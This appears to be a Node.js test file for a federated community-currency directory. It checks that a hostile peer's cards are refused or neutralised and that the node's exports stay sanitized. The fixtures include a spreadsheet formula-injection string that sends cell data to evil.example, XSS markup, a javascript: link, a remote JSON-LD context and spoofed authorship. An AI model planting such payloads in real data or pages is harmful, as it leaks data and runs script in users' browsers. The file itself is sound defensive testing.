// A node that fills its directory with what it may not say: cards in others'
// names, too many, cyclic, off the map, of year 9999, with formulas and markup
// in their fields. Nothing of it is somebody's own word here, the caps hold, the
// exports stay clean (security.md E9), and the log has a reason for each refusal.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { after, before, describe, test } from 'node:test';
import { join } from 'node:path';
import { Essaim, until } from './lib/essaim.mjs';
import { AS2, Public } from './lib/http.mjs';
import { Peer } from './lib/peer.mjs';
import { Person } from './lib/person.mjs';

const mostOfHost = 2000;  // node/directory/receiving.h
const formula = '=HYPERLINK("http://evil.example/?"&A1,"Eusko")';
const markup = '"><script>alert(1)</script><img src=x onerror=alert(1)>';
const remoteContext = 'https://evil.example/context.jsonld';
let node, peer, manager;

const card = (name, more = {}) => ({ type: 'Initiative', id: `${peer.url}/fiches/${name}`, attributedTo: peer.id, name, kind: 'localCurrency',
  source: 'nous [2026]', method: 'thirdParty', updated: '2026-01-01T00:00:00Z', to: [Public], ...more });

// What is refused, and how the log says why.
const wrong = () => [
  [card('stolen', { id: 'https://euskalmoneta.example/fiches/association', attributedTo: 'https://euskalmoneta.example/@eusko', method: 'self' }), 'no signature of its author'],
  [card('elsewhere', { id: 'https://euskalmoneta.example/fiches/2' }), 'not at its author'],
  [card('off-the-map', { geo: { lat: 91, lon: 0 } }), 'not valid'],
  [card('further-off', { geo: { lat: 0, lon: 1e300 } }), 'not valid'],
  ...['launchedOn', 'endedOn', 'foundedOn', 'statusSince', 'lastRedemptionDate'].map((term) => [card(term, { [term]: '9999-12-31' }), `${term} is in no year`]),
  [card('tomorrow', { updated: '9999-12-31T23:59:59Z' }), 'no day until today'],
  [card('undated', { updated: 'soon' }), 'no day until today'],
  [card('huge', { x: 'x'.repeat(40_000) }), 'too large'],
  [card('script-link', { website: 'javascript:alert(1)' }), 'not valid'],
  [card('bank', { kind: 'bank' }), 'not valid'],
  [card('turned', { name: 'Eusko \u202Eokse' }), 'not seen'],
  [card('null-byte', { summary: 'a\u0001b' }), 'not seen'],
];
// What is kept, for what it is: a word of this peer.
const kept = () => [
  card('takeover', { name: 'Eusko', method: 'self', website: 'https://www.euskalmoneta.org' }),
  card('takeover-2', { name: 'Monnaie d’ailleurs', method: 'self', website: 'https://www.monnaie.example' }),
  card('formula', { name: formula, legalEntityName: '+1+cmd|x', source: '@SUM(1) [2026]', summary: '-2+3' }),
  card('markup', { name: markup.slice(0, 120), summary: markup, tags: [markup.slice(0, 60)], partOf: [`${peer.url}/fiches/cycle`] }),
  card('cycle', { partOf: [`${peer.url}/fiches/markup`], replaces: [`${peer.url}/fiches/cycle`], hasPart: [`${peer.url}/fiches/cycle`] }),
  card('keywords', { '@context': remoteContext, place: { '@context': remoteContext, country: 'FR', town: 'Pau' }, '@graph': [{ '@id': 'https://euskalmoneta.org' }] }),
];
const many = (from, until_) => Array.from({ length: until_ - from }, (_, i) => card(`many-${from + i}`, { name: 'Eusko' }));

const serve = (path, body) => peer.documents.set(path, { status: 200, body: { '@context': AS2, id: peer.url + path, ...body } });
const page = (number, items, next) => serve(`/fiches/page/${number}`, { type: 'OrderedCollectionPage', orderedItems: items, next: `${peer.url}/fiches/page/${next}` });
const lines = () => node.log.split('\n').filter((line) => line.includes('"event":"card refused"')).map((line) => JSON.parse(line));
const get = async (path) => { const answer = await fetch(node.url + path); return { status: answer.status, text: await answer.text() }; };
const cards = async (query = '') => JSON.parse((await get(`/api/v1/fiches?par_page=200${query}`)).text).items;
const count = (sql) => Number(spawnSync('sqlite3', [join(node.directory, 'essaim.db'), `SELECT count(*) FROM claim WHERE ${sql}`], { encoding: 'utf8' }).stdout);
const decide = async (fields) => manager.submit(await manager.page('/gestion/annuaire'), '/gestion/annuaire', fields);
const slugOf = (name) => spawnSync('sqlite3', [join(node.directory, 'essaim.db'), `SELECT slug FROM card JOIN claim ON claim.card = card.id WHERE iri = '${peer.url}/fiches/${name}'`], { encoding: 'utf8' }).stdout.trim();

before(async () => {
  peer = await Peer.start();
  node = await Essaim.start({ peers: [peer.address] });
  peer.documents.set('/users/marie', { status: 200, body: { ...peer.actorDocument('marie'), type: 'Organization', directory: `${peer.url}/fiches` } });
  // Its own word, which is its to say, under a name that is none.
  const own = card('own', { name: formula, method: 'self', website: peer.url, summary: markup, denominations: [0.1, 1e5], unitValue: { amount: 1e9, per: 'EUR' } });
  serve('/fiches', { type: 'OrderedCollection', first: `${peer.url}/fiches/page/1` });
  page(1, [own, ...wrong().map(([document]) => document), ...kept(), 'https://evil.example/only-named'], 2);
  for (let number = 2; number <= 7; ++number) page(number, many((number - 2) * 450, (number - 1) * 450), number + 1);
  page(8, [card('last')], 2);  // and around again
  await peer.follow(node);
  await until('the peer to follow', async () => (await node.followers()).includes(peer.id));
  manager = await Person.arrive(node);
  await decide({ quoi: 'livrees' });
  await decide({ quoi: 'relire' });
  await until('the round to end', () => node.log.includes('"event":"directories read"'), 60);
});
after(async () => { peer.stop(); await node.stop(); });

describe('what it may not say is refused, and the log says why', () => {
  test('each for its reason', () => {
    const said = lines();
    for (const [document, why] of wrong()) {
      assert.ok(said.some((line) => line.from === peer.address && line.why.includes(why)), `${document.name}: ${why}`);
      assert.equal(count(`iri = '${document.id}'`), 0, document.id);
    }
    assert.ok(said.some(({ why }) => why.includes('only named')));
  });
});

describe('the caps hold', () => {
  test('one server has its share and no more; the rest is not even read', () => {
    assert.equal(count(`said_by = '${peer.id}'`), mostOfHost);
    assert.ok(lines().some(({ why }) => why.includes(`too many cards of ${peer.url}`)));
    assert.ok(lines().some(({ why }) => why.includes('the rest is not read')));
    assert.ok(peer.fetches('/fiches/page/2').length <= 1);
  });
  test('what it says waits behind nobody, and hides no one else’s', async () => {
    const desk = await manager.page('/gestion/annuaire');
    assert.ok(desk.includes('À relire'));
    assert.ok((desk.match(/value="montrer"/g) ?? []).length <= 100);
  });
});

describe('nothing of it is somebody else’s own word', () => {
  test('it has one: its own, under its own address', async () => {
    const own = (await cards('&qui=elle-meme')).filter(({ attributedTo }) => attributedTo === peer.id);
    assert.deepEqual(own.map(({ id }) => id), [`${peer.url}/fiches/own`]);
    assert.equal(count(`said_by = '${peer.id}' AND method = 'self'`), 1);
  });
  test('its word about others is on no public page, and does not touch their cards', async () => {
    assert.equal((await cards()).filter(({ attributedTo }) => attributedTo === peer.id).length, 1);
    const eusko = JSON.parse((await get('/api/v1/fiches/eusko')).text);
    assert.ok(eusko.claims.every(({ declaredBy }) => declaredBy !== peer.id));
    assert.equal((await get(`/reseau/annuaire/${slugOf('takeover')}`)).status, 404);
  });
  test('shown by a person, it is told as this peer’s word, cycles and all', async () => {
    for (const name of ['takeover', 'formula', 'markup', 'cycle', 'keywords']) {
      const slug = slugOf(name);
      const desk = await manager.page(`/reseau/annuaire/${slug}`);
      assert.ok(desk.includes('n’est pas sur les pages publiques'));
      const id = spawnSync('sqlite3', [join(node.directory, 'essaim.db'), `SELECT id FROM card WHERE slug = '${slug}'`], { encoding: 'utf8' }).stdout.trim();
      await decide({ quoi: 'montrer', fiche: id });
      const shown = await get(`/reseau/annuaire/${slug}`);
      assert.equal(shown.status, 200, name);
      assert.ok(!shown.text.includes('Dit par elle-même'), name);
    }
  });
});

describe('what leaves is clean', () => {
  const everywhere = ['/reseau/annuaire?q=127', '/reseau/annuaire', '/reseau/annuaire?vue=tableau', '/reseau/annuaire?vue=livret', '/reseau/annuaire?vue=chronologie', '/integrer/annuaire'];
  test('pages show markup as text; the code to copy holds one element', async () => {
    for (const path of [...everywhere, ...['own', 'markup', 'formula', 'cycle'].map((name) => `/reseau/annuaire/${slugOf(name)}`)]) {
      const { text } = await get(path);
      assert.ok(!/<script>alert|<img src=x/.test(text), path);
      for (const [, code] of text.matchAll(/<code>(&lt;iframe[^<]*)<\/code>/g)) {
        const copied = code.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"').replaceAll('&#39;', "'").replaceAll('&amp;', '&');
        assert.deepEqual(copied.match(/<\/?[a-z]+/g), ['<iframe', '</iframe'], copied);
      }
    }
  });
  test('CSV: no cell is a formula, with commas and with semicolons', async () => {
    for (const path of ['/reseau/annuaire.csv', '/reseau/annuaire.csv?format=excel']) {
      const { text } = await get(path);
      const cells = [...text.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) => cell);
      assert.ok(cells.some((cell) => cell.startsWith("'=HYPERLINK")), path);
      for (const cell of cells) if (/^[=+\-@\t\r]/.test(cell)) assert.match(cell, /^-?\d+(\.\d+)?$/);
    }
  });
  test('GeoJSON: every point is on this earth', async () => {
    for (const { geometry } of JSON.parse((await get('/reseau/annuaire.geojson')).text).features) {
      if (geometry) assert.ok(Math.abs(geometry.coordinates[0]) <= 180 && Math.abs(geometry.coordinates[1]) <= 90);
    }
  });
  test('JSON-LD: the only context is ours', async () => {
    const keywords = (value) => value && typeof value === 'object'
      ? Object.entries(value).flatMap(([key, inner]) => [...(key.startsWith('@') ? [key] : []), ...keywords(inner)]) : [];
    for (const path of ['/reseau/annuaire.jsonld', `/reseau/annuaire/${slugOf('keywords')}.jsonld`, '/api/v1/fiches?par_page=200']) {
      const { text } = await get(path);
      const { '@context': ours, '@graph': graph, ...document } = JSON.parse(text);
      assert.deepEqual(keywords(graph ?? document), [], path);
      assert.ok(!text.includes(remoteContext), path);
    }
  });
  test('Atom and vCard: well-formed', async () => {
    const feed = await get('/reseau/annuaire.atom');
    assert.equal(spawnSync('python3', ['-c', 'import sys,xml.dom.minidom; xml.dom.minidom.parse(sys.stdin.buffer)'], { input: feed.text }).status, 0);
    const { text } = await get(`/reseau/annuaire/${slugOf('own')}.vcf`);
    for (const line of text.trimEnd().split('\r\n')) assert.match(line, /^[A-Z-]+[:;]/);
  });
});

describe('even when this node follows it', () => {
  test('what it pushes is refused for the same reasons, and the shares are the same', async () => {
    await node.run('follow', 'add', peer.handle());
    await node.follows(peer.id);
    const sent = [...wrong().slice(2, 7), [card('one-more'), 'too many cards'], [card('another', { attributedTo: 'https://euskalmoneta.example/@eusko' }), '']];
    for (const [document, why] of sent) {
      const from = node.log.length;
      assert.equal((await peer.post(node.inbox, peer.activity('Create', document))).status, 202);
      await until(`${document.name}: ${why}`, () => node.log.slice(from).includes(why || 'refused'));
      assert.equal(count(`iri = '${document.id}'`), 0);
    }
  });
  test('it takes over no card', async () => {
    const update = { ...card('takeover', { name: 'Eusko', method: 'self', website: 'https://www.euskalmoneta.org', summary: 'nous sommes l’Eusko' }), updated: new Date().toISOString() };
    assert.equal((await peer.post(node.inbox, peer.activity('Update', update))).status, 202);
    await until('the update', () => count(`iri = '${update.id}' AND document LIKE '%nous sommes%'`) === 1);
    assert.equal(count(`iri = '${update.id}' AND method = 'self'`), 0);
    const own = (await cards('&qui=elle-meme')).filter(({ attributedTo }) => attributedTo === peer.id);
    assert.equal(own.length, 1);
  });
});
